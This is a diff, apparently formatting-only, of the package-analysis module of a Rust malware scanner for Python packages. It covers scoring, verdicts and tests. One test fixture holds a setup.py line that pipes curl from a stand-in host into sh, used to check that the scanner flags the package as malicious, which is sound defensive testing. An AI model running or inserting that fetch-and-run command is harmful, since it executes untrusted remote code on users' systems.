@@ -2,11 +2,13 @@
 //! scores and reports, the declared metadata, and the package verdict.
 
 use rayon::prelude::*;
-use wheelhound_analysis::metadata::{metadata_priority, parse_metadata, Metadata};
-use wheelhound_analysis::{analyze_python, analyze_python_called, is_python_member, FileAnalysis};
+use wheelhound_analysis::metadata::{Metadata, metadata_priority, parse_metadata};
+use wheelhound_analysis::{FileAnalysis, analyze_python, analyze_python_called, is_python_member};
 use wheelhound_input::Package;
-use wheelhound_report::{build_file_report, FileInput, FileReport, PackageError, PackageReport, Verdict};
-use wheelhound_scoring::{score_file, FileScores, MALICIOUS_THRESHOLD, SUSPICIOUS_THRESHOLD};
+use wheelhound_report::{
+    FileInput, FileReport, PackageError, PackageReport, Verdict, build_file_report,
+};
+use wheelhound_scoring::{FileScores, MALICIOUS_THRESHOLD, SUSPICIOUS_THRESHOLD, score_file};
 
 use crate::ScanOptions;
 
@@ -44,7 +46,10 @@ pub fn analyze_package(package: Package, options: &ScanOptions) -> PackageReport
         .into_par_iter()
         .map(|(index, caller)| {
             let member = python[index];
-            (index, analyze_python_called(&member.path, &member.data, &options.analysis, &caller))
+            (
+                index,
+                analyze_python_called(&member.path, &member.data, &options.analysis, &caller),
+            )
         })
         .collect();
     for (index, analysis) in again {
@@ -88,8 +93,14 @@ pub fn analyze_package(package: Package, options: &ScanOptions) -> PackageReport
     });
 
     let malware = analysed.iter().map(|(_, s)| s.malware).fold(0.0, f64::max);
-    let security_risk = analysed.iter().map(|(_, s)| s.security_risk).fold(0.0, f64::max);
-    let obfuscated = analysed.iter().map(|(_, s)| s.obfuscated).fold(0.0, f64::max);
+    let security_risk = analysed
+        .iter()
+        .map(|(_, s)| s.security_risk)
+        .fold(0.0, f64::max);
+    let obfuscated = analysed
+        .iter()
+        .map(|(_, s)| s.obfuscated)
+        .fold(0.0, f64::max);
     let verdict = if package.fatal {
         Verdict::Error
     } else if malware >= MALICIOUS_THRESHOLD {
@@ -142,7 +153,11 @@ fn decisive_reasons(analysed: &[(FileAnalysis, FileScores)]) -> Vec<String> {
     reasons
 }
 
-fn package_confidence(verdict: Verdict, analysed: &[(FileAnalysis, FileScores)], errors: &[PackageError]) -> f64 {
+fn package_confidence(
+    verdict: Verdict,
+    analysed: &[(FileAnalysis, FileScores)],
+    errors: &[PackageError],
+) -> f64 {
     match verdict {
         Verdict::Error => 0.0,
         Verdict::Benign => {
@@ -187,7 +202,11 @@ mod tests {
             origin: Origin::Directory,
             members: members
                 .iter()
-                .map(|(path, text)| Member { path: (*path).to_owned(), data: text.as_bytes().to_vec(), size: text.len() as u64 })
+                .map(|(path, text)| Member {
+                    path: (*path).to_owned(),
+                    data: text.as_bytes().to_vec(),
+                    size: text.len() as u64,
+                })
                 .collect(),
             issues: Vec::new(),
             fatal: false,
@@ -198,8 +217,14 @@ mod tests {
     fn malicious_setup_makes_the_package_malicious() {
         let report = analyze_package(
             package(&[
-                ("demo-1.0/PKG-INFO", "Name: demo\nVersion: 1.0\nSummary: A demo\n"),
-                ("demo-1.0/setup.py", "import os\nos.system('curl http://x.invalid/a | sh')\n"),
+                (
+                    "demo-1.0/PKG-INFO",
+                    "Name: demo\nVersion: 1.0\nSummary: A demo\n",
+                ),
+                (
+                    "demo-1.0/setup.py",
+                    "import os\nos.system('curl http://x.invalid/a | sh')\n",
+                ),
                 ("demo-1.0/demo/__init__.py", "x = 1\n"),
             ]),
             &ScanOptions::default(),
@@ -214,8 +239,14 @@ mod tests {
 
     #[test]
     fn all_files_lists_clean_files_too() {
-        let options = ScanOptions { all_files: true, ..ScanOptions::default() };
-        let report = analyze_package(package(&[("demo/m.py", "x = 1\n"), ("demo/README", "hi")]), &options);
+        let options = ScanOptions {
+            all_files: true,
+            ..ScanOptions::default()
+        };
+        let report = analyze_package(
+            package(&[("demo/m.py", "x = 1\n"), ("demo/README", "hi")]),
+            &options,
+        );
         assert_eq!(report.verdict, Verdict::Benign);
         assert_eq!(report.files.len(), 1);
     }
